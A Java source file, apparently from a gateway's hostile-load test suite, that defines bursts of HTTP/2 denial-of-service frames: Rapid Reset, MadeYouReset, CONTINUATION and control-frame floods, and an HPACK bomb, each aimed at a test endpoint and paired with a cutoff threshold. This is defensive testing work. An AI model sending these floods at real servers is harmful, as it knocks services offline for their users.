package io.tallygate.load.hostile;

import java.util.Arrays;

/// What an attacker sends without an end on one connection, in bursts.
enum Flood {
    /// CVE-2023-44487.
    RAPID_RESET(200) {
        @Override
        void burst(Frames into, int number) {
            int stream = 2 * number + 1;
            into.add(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, stream, HEAD)
                    .add(Frames.RST_STREAM, 0, stream, Frames.number(8));
        }
    },
    /// CVE-2025-8671: the server is made to reset the streams.
    MADE_YOU_RESET(200) {
        @Override
        void burst(Frames into, int number) {
            int stream = 2 * number + 1;
            into.add(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, stream, HEAD)
                    .add(Frames.WINDOW_UPDATE, 0, stream, Frames.number(0));
        }
    },
    /// Streams beyond those that may be open at once, of nobody who is known.
    STREAMS(1_200) {
        @Override
        void burst(Frames into, int number) {
            into.add(Frames.HEADERS, Frames.END_HEADERS, 2 * number + 1, STRANGER);
        }
    },
    /// A head that never ends.
    CONTINUATION(64) {
        @Override
        void burst(Frames into, int number) {
            if (number == 0) {
                into.add(Frames.HEADERS, Frames.END_STREAM, 1, HEAD);
            }
            into.add(Frames.CONTINUATION, 0, 1, number % 2 == 0 ? NOTHING : Frames.fields(0, "x-more", "x".repeat(90)));
        }
    },
    SETTINGS(1_100) {
        @Override
        void burst(Frames into, int number) {
            into.add(Frames.SETTINGS, 0, 0, new byte[] {0, 4, 0, 1, 0, 0});
        }
    },
    PING(1_100) {
        @Override
        void burst(Frames into, int number) {
            into.add(Frames.PING, 0, 0, new byte[8]);
        }
    },
    PRIORITY(1_100) {
        @Override
        void burst(Frames into, int number) {
            into.add(Frames.PRIORITY, 0, 2 * number + 1, new byte[] {0, 0, 0, 0, 15});
        }
    },
    EMPTY_DATA(1_100) {
        @Override
        void burst(Frames into, int number) {
            if (number == 0) {
                into.add(Frames.HEADERS, Frames.END_HEADERS, 1, POST);
            }
            into.add(Frames.DATA, 0, 1, NOTHING);
        }
    },
    WINDOW_UPDATE(1_100) {
        @Override
        void burst(Frames into, int number) {
            into.add(Frames.WINDOW_UPDATE, 0, 0, Frames.number(1));
        }
    },
    UNKNOWN(1_100) {
        @Override
        void burst(Frames into, int number) {
            into.add(Frames.UNKNOWN, 0, 0, new byte[16]);
        }
    },
    /// Few octets that stand for very many: an entry of the table as large as it may be, named over and over.
    HPACK_BOMB(10) {
        @Override
        void burst(Frames into, int number) {
            byte[] block;
            if (number == 0) {
                block = join(HEAD, Frames.fields(0x40, "x-bomb", "b".repeat(4_000)));
            } else {
                byte[] named = new byte[16_000];
                Arrays.fill(named, (byte) (0x80 | 62)); // the newest entry
                block = join(HEAD, named);
            }
            into.add(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, 2 * number + 1, block);
        }
    };

    /// Bursts after which it is certainly too much.
    final int tooMuch;

    Flood(int tooMuch) {
        this.tooMuch = tooMuch;
    }

    private static final String PATH = "/api/0/attacked";
    private static final byte[] HEAD = Frames.head("GET", PATH, Besieged.KEY);
    private static final byte[] POST = Frames.head("POST", PATH, Besieged.KEY);
    private static final byte[] STRANGER = Frames.head("POST", PATH, "tg_live_unknown");
    private static final byte[] NOTHING = {};

    private static byte[] join(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    /// @param number  from 0 on the same connection
    abstract void burst(Frames into, int number);

    String text() {
        return name().toLowerCase(java.util.Locale.ROOT).replace('_', '-');
    }
}
